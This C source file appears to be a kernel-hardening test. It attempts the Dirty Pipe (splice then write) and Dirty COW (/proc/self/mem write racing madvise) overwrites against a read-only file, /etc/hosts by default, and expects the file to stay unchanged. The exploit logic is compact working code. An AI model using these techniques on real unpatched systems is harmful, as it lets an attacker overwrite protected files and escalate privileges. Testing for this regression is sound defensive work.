/* K22: the two page-cache overwrites of old kernels, tried on a read-only file that the test names:
 * splice then write (CVE-2022-0847) and write through /proc/self/mem on a private map while it is
 * thrown away (CVE-2016-5195). The file must keep its bytes.
 *
 * usage: dirty FILE */
#include "guest.h"

#include <pthread.h>
#include <sys/mman.h>

static void *map;
static volatile int stop;

static void pipe_trick(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC), p[2];
    static char block[65536];
    if (fd < 0 || pipe(p) < 0) {
        report("pipe_trick", -1);
        return;
    }
    int size = fcntl(p[1], F_GETPIPE_SZ);
    for (int n = size; n > 0; n -= 4096)
        if (write(p[1], block, 4096) < 0)
            return;
    for (int n = size; n > 0; n -= 4096)
        if (read(p[0], block, 4096) < 0)
            return;
    loff_t off = 0;
    TRY("splice", splice(fd, &off, p[1], NULL, 1, 0));
    TRY("pipe_write", write(p[1], "DIRTY", 5));
}

static void *throw_away(void *unused)
{
    (void)unused;
    while (!stop)
        madvise(map, 4096, MADV_DONTNEED);
    return NULL;
}

int main(int argc, char **argv)
{
    const char *path = arg(argc, argv, 1, "/etc/hosts");
    guest_deadline(10);
    pipe_trick(path);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    if (map == MAP_FAILED) {
        report("map", -1);
        return 0;
    }
    int mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    report("self_mem", mem);
    pthread_t t;
    if (pthread_create(&t, NULL, throw_away, NULL) != 0)
        return 0;
    for (double end = now_s() + 0.2; mem >= 0 && now_s() < end;)
        if (pwrite(mem, "DIRTY", 5, (off_t)(uintptr_t)map) < 0)
            break;
    stop = 1;
    pthread_join(t, NULL);
    say("tried", "yes");
    return 0;
}
